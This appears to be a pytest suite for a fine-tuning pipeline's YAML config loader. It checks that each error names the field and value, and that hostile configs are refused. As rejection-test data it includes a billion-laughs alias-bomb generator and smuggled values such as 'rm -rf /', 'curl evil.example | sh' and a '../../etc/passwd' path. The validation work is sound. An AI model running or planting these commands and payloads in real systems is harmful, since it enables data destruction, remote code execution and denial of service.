"""The pipeline config: every error names the field, the bad value and what would be valid."""
from __future__ import annotations

import os
import re
import time
from pathlib import Path

import pytest
import yaml

from workflows.config import ConfigError, load_pipeline, parse_pipeline

REFERENCE = Path(__file__).resolve().parents[1] / "configs" / "pipelines" / "gemma2-2b-acereason-math.yaml"


def reference_data() -> dict:
    return yaml.safe_load(REFERENCE.read_text())


def error_for(data: dict) -> str:
    with pytest.raises(ConfigError) as caught:
        parse_pipeline(data, "test.yaml")
    return str(caught.value)


def test_reference_config_loads_with_the_reference_run():
    cfg = load_pipeline(REFERENCE)
    assert cfg.model.id == "google/gemma-2-2b"
    assert cfg.data.source == "nvidia/AceReason-Math"
    assert cfg.data.fields.question == "problem"
    assert cfg.train.gpus == 3
    assert cfg.gate.gpu_memory_gib == 44.9
    assert cfg.eval.subjects == ["math"]
    assert cfg.eval.baselines == ["google/gemma-2-2b", "google/gemma-3-12b-it"]
    assert cfg.train.timeout == 8 * 3600


def test_defaults_evaluate_all_fourteen_subjects():
    data = reference_data()
    del data["eval"]["subjects"]
    assert len(parse_pipeline(data).eval.subjects) == 14


def test_misspelled_field_names_the_path_and_the_valid_fields():
    data = reference_data()
    data["train"]["gpu"] = 2
    message = error_for(data)
    assert "train.gpu: unknown field" in message
    assert "gpus" in message  # the valid spelling is listed


def test_bad_value_names_field_value_and_valid_choices():
    data = reference_data()
    data["gate"]["mode"] = "block"
    message = error_for(data)
    assert "gate.mode" in message and "'block'" in message
    assert "'fail'" in message and "'warn'" in message


def test_unknown_subject_lists_the_fourteen():
    data = reference_data()
    data["eval"]["subjects"] = ["maths"]
    message = error_for(data)
    assert "eval.subjects" in message and "maths" in message
    assert "computer science" in message and "psychology" in message


@pytest.mark.parametrize(
    ("path", "value", "expected"),
    [
        (("train", "timeout"), "soon", "not a duration"),
        (("train", "memory"), "lots", "not a Kubernetes quantity"),
        (("upload", "repo_id"), "no-slash", "org/name"),
        (("name",), "Not_DNS", "DNS-1123"),
        (("train", "gpus"), 0, "greater than or equal to 1"),
        (("schedule", "crons"), ["every monday"], "has 5 fields"),
    ],
)
def test_each_invalid_value_is_explained(path, value, expected):
    data = reference_data()
    target = data
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = value
    message = error_for(data)
    assert ".".join(path) in message
    assert expected in message


def test_workspace_needs_exactly_one_volume_kind():
    data = reference_data()
    data["cluster"]["workspace"] = {"existing_claim": "a", "claim_template": {"size": "10Gi"}}
    assert "exactly one of existing_claim or claim_template" in error_for(data)


def test_schedule_requires_a_lasting_workspace():
    data = reference_data()
    data["cluster"]["workspace"] = {"claim_template": {"size": "10Gi"}}
    assert "schedule needs cluster.workspace.existing_claim" in error_for(data)


def test_every_problem_is_reported_at_once():
    data = reference_data()
    data["train"]["gpus"] = -1
    data["eval"]["engine"] = "tgi"
    message = error_for(data)
    assert "2 problem(s)" in message


def test_unreadable_and_non_yaml_files_are_named(tmp_path):
    with pytest.raises(ConfigError, match="cannot read"):
        load_pipeline(tmp_path / "missing.yaml")
    bad = tmp_path / "bad.yaml"
    bad.write_text("name: [unclosed\n")
    with pytest.raises(ConfigError, match="not valid YAML"):
        load_pipeline(bad)
    scalar = tmp_path / "scalar.yaml"
    scalar.write_text("just a string\n")
    with pytest.raises(ConfigError, match="expected a mapping"):
        load_pipeline(scalar)


# --- issue 11: hostile and malformed configs, each refused with one line ------------------------

def reference_text() -> str:
    return REFERENCE.read_text(encoding="utf-8")


def load_error(tmp_path: Path, text: str | bytes) -> str:
    path = tmp_path / "hostile.yaml"
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8")
    with pytest.raises(ConfigError) as caught:
        load_pipeline(path)
    message = str(caught.value)
    assert "\n" not in message and "Traceback" not in message
    return message


def with_overrides_yaml(block: str) -> str:
    """The reference config with `train.overrides` replaced by a YAML block (indented under it)."""
    indented = "".join(f"    {line}\n" for line in block.strip("\n").splitlines())
    text = reference_text()
    assert "  overrides: {}\n" in text
    return text.replace("  overrides: {}\n", "  overrides:\n" + indented)


def billion_laughs(indent: str = "") -> str:
    """Nine levels of nine aliases each: 1 KB of YAML that expands to 9**9 strings."""
    lines = [f"a0: &a0 [{', '.join(['lol'] * 9)}]"]
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
    return "\n".join(indent + line for line in lines)


def test_item9_alias_bomb_is_refused_quickly(tmp_path):
    started = time.monotonic()
    message = load_error(tmp_path, with_overrides_yaml(billion_laughs()))
    assert time.monotonic() - started < 5
    assert "expands to more than" in message and "hostile.yaml" in message


def test_item9_recursive_alias_and_deep_nesting_are_one_line(tmp_path):
    assert "contains it" in load_error(tmp_path, with_overrides_yaml("loop: &loop {again: *loop}"))
    assert "nested" in load_error(tmp_path, reference_text() + "description: " + "[" * 5000 + "]" * 5000 + "\n")


def test_item9_oversized_config_is_refused_before_parsing(tmp_path):
    padding = "# " + "x" * 1000 + "\n"
    message = load_error(tmp_path, reference_text() + padding * 1100)
    assert "at most 1048576 bytes" in message


def test_item9_anchors_within_the_budget_still_share_values(tmp_path):
    text = reference_text().replace(
        "  tolerations:\n    - key: nvidia.com/gpu\n      operator: Exists\n      effect: NoSchedule\ngate:",
        "  tolerations: &gpu_taint\n    - key: nvidia.com/gpu\n      operator: Exists\n      effect: NoSchedule\ngate:",
    ).replace(
        "  tolerations:\n    - key: nvidia.com/gpu\n      operator: Exists\n      effect: NoSchedule\nupload:",
        "  tolerations: *gpu_taint\nupload:",
    )
    assert "*gpu_taint" in text
    path = tmp_path / "anchors.yaml"
    path.write_text(text, encoding="utf-8")
    cfg = load_pipeline(path)
    assert cfg.eval.tolerations == cfg.train.tolerations and cfg.eval.tolerations[0].operator == "Exists"


def test_item9_a_merged_key_may_be_overridden(tmp_path):
    text = with_overrides_yaml("base: &base {lr: 1, epochs: 2}\nrun:\n  <<: *base\n  lr: 3")
    path = tmp_path / "merge.yaml"
    path.write_text(text, encoding="utf-8")
    assert load_pipeline(path).train.overrides["run"] == {"lr": 3, "epochs": 2}


def test_item9_a_fifo_or_a_device_is_refused_without_reading_it(tmp_path):
    fifo = tmp_path / "pipe.yaml"
    os.mkfifo(fifo)
    for path in (fifo, Path("/dev/zero")):
        with pytest.raises(ConfigError, match="the pipeline config is not a regular file"):
            load_pipeline(path)
    with pytest.raises(ConfigError, match="cannot read the pipeline config"):
        load_pipeline(tmp_path)


def test_item10_non_utf8_config_is_one_line(tmp_path):
    text = reference_text().replace("Gemma-2-2B QLoRA", "Gemma-2-2B QLoRA caf\u00e9").encode("latin-1")
    message = load_error(tmp_path, text)
    assert "not UTF-8" in message and "0xe9" in message


@pytest.mark.parametrize("value", [".inf", "-.inf", ".nan", "9" * 400, "1.0e+400", "2000"])
def test_item10_gpu_memory_infinite_or_huge_is_one_line(tmp_path, value):
    text, count = re.subn(r"(?m)^  gpu_memory_gib: [0-9.]+", f"  gpu_memory_gib: {value}", reference_text())
    assert count == 1
    message = load_error(tmp_path, text)
    assert message.startswith(f"{tmp_path / 'hostile.yaml'}: gate.gpu_memory_gib: ")
    assert len(message) < 300  # a 400-digit value is shortened, not echoed


def test_item11_duplicate_key_names_the_key_and_both_lines(tmp_path):
    text = reference_text().replace("  gpus: 3\n", "  gpus: 3\n  cpu: \"8\"\n")
    message = load_error(tmp_path, text)
    first = next(n for n, line in enumerate(text.splitlines(), 1) if line == '  cpu: "8"')
    assert f"line {first + 1}, column 3: duplicate key 'cpu' (first at line {first})" in message


@pytest.mark.parametrize(
    ("path", "value", "expected"),
    [
        (("cluster", "run_as_user"), -1, "greater than or equal to 0"),
        (("cluster", "run_as_user"), 2**40, "less than or equal to 2147483647"),
        (("cluster", "images", "train"), "ghcr.io/org/train:1\nrm -rf /", "control character '\\n'"),
        (("cluster", "images", "train"), "ghcr.io/org/train:1;rm", "not an image reference"),
        (("cluster", "images", "eval"), "GHCR.io/Org/Eval:1", "not an image reference"),
        (("cluster", "images", "light"), "ghcr.io/org/light:1 --privileged", "not an image reference"),
        (("schedule", "crons"), ["@reboot; curl evil.example | sh"], "not a descriptor Argo knows"),
        (("schedule", "crons"), ["@reboot"], "not a descriptor Argo knows"),
        (("schedule", "crons"), ["61 3 * * 1"], "outside the minute range 0-59"),
        (("schedule", "crons"), ["0 3 * * 7"], "outside the day of week range 0-6"),
        (("schedule", "crons"), ["*/0 3 * * 1"], "step"),
        (("schedule", "crons"), ["0 3 * * 1 2026"], "has 6 field(s)"),
        (("schedule", "crons"), ["CRON_TZ=Asia/Tokyo 0 3 * * 1"], "set schedule.timezone"),
        (("schedule", "crons"), ["@every 1 hour"], "not a descriptor"),
        (("schedule", "timezone"), "Mars/Olympus_Mons", "not an IANA time zone"),
        (("schedule", "timezone"), "../../etc/passwd", "not an IANA time zone"),
        (("schedule", "timezone"), "Europe", "not an IANA time zone"),
        (("eval", "limit"), 1e30, "exceeded maximum size"),
        (("eval", "limit"), "1e30", "valid integer"),
        (("eval", "limit"), 10**400, "less than or equal to 1000000"),
        (("train", "timeout"), "9999999d", "at most 366d"),
        (("cluster", "namespace"), "../../x?y#", "DNS-1123"),
        (("train", "node_selector"), {"nvidia.com/gpu memory": "48"}, "not a qualified name"),
        (("train", "node_selector"), {"nvidia.com/gpu.product": "A100\nx"}, "control character"),
        (("train", "node_selector"), {"nvidia.com/gpu.product": "A100 80GB"}, "not a label value"),
        (("model", "id"), "google/gemma-2-2b\n--trust-remote-code", "control character"),
        (("eval", "baselines"), ["org/\u202eevil"], "control character '\\u202e'"),
        (("data", "source"), "data/\x1b[2Jtrain.parquet", "control character '\\x1b'"),
        (("train", "tolerations"), [{"key": "nvidia.com/gpu", "operator": "Exists", "value": "x"}], "operator Exists"),
        (("eval", "tolerations"), [{"key": "gpu/../x", "operator": "Exists"}], "not a qualified name"),
        (("train", "gpu_resource"), "nvidia.com/gpu; rm", "not a qualified name"),
        (("train", "priority_class_name"), "GPU Training", "not an object name"),
        (("cluster", "workspace", "existing_claim"), "../claim", "not an object name"),
        (("cluster", "hf_token_secret", "key"), "token/../x", "not a Secret key"),
    ],
)
def test_item11_silently_accepted_values_are_refused(path, value, expected):
    data = reference_data()
    target = data
    for key in path[:-1]:
        target = target.setdefault(key, {})
    target[path[-1]] = value
    message = error_for(data)
    assert message.startswith(f"test.yaml: {'.'.join(path)}") and expected in message, message
    assert "\n" not in message


@pytest.mark.parametrize(
    "schedule", ["0 3 * * 1", "*/15 * * * *", "0 0 1 jan-mar mon-fri", "5,10 1-5/2 ? * *", "0 3 * * SUN",
                 "@daily", "@midnight", "@every 1h30m", "@every 90s"])
def test_item11_schedules_argo_accepts_stay_accepted(schedule):
    data = reference_data()
    data["schedule"]["crons"] = [schedule]
    data["schedule"]["timezone"] = "America/New_York"
    assert parse_pipeline(data).schedule.crons == [schedule]


def test_item11_image_references_with_registry_port_and_digest_are_accepted():
    data = reference_data()
    data["cluster"]["images"] = {
        "light": "localhost:5000/tunebench:dev",
        "train": "registry.example.com/ml/tunebench-train@sha256:" + "a" * 64,
        "eval": "tunebench-eval",
    }
    assert parse_pipeline(data).cluster.images.eval == "tunebench-eval"


def test_a_control_character_in_a_value_cannot_split_the_message():
    data = reference_data()
    data["gate"]["mode"] = "fail\n\x1b[31mok"
    message = error_for(data)
    assert "\n" not in message and "\x1b" not in message and "\\x1b" in message


def test_free_text_fields_may_hold_newlines():
    data = reference_data()
    data["description"] = "line one\nline two"
    data["train"]["overrides"] = {"chat_template_jinja": "{% for m in messages %}\n{{ m }}\n{% endfor %}"}
    assert parse_pipeline(data).description == "line one\nline two"
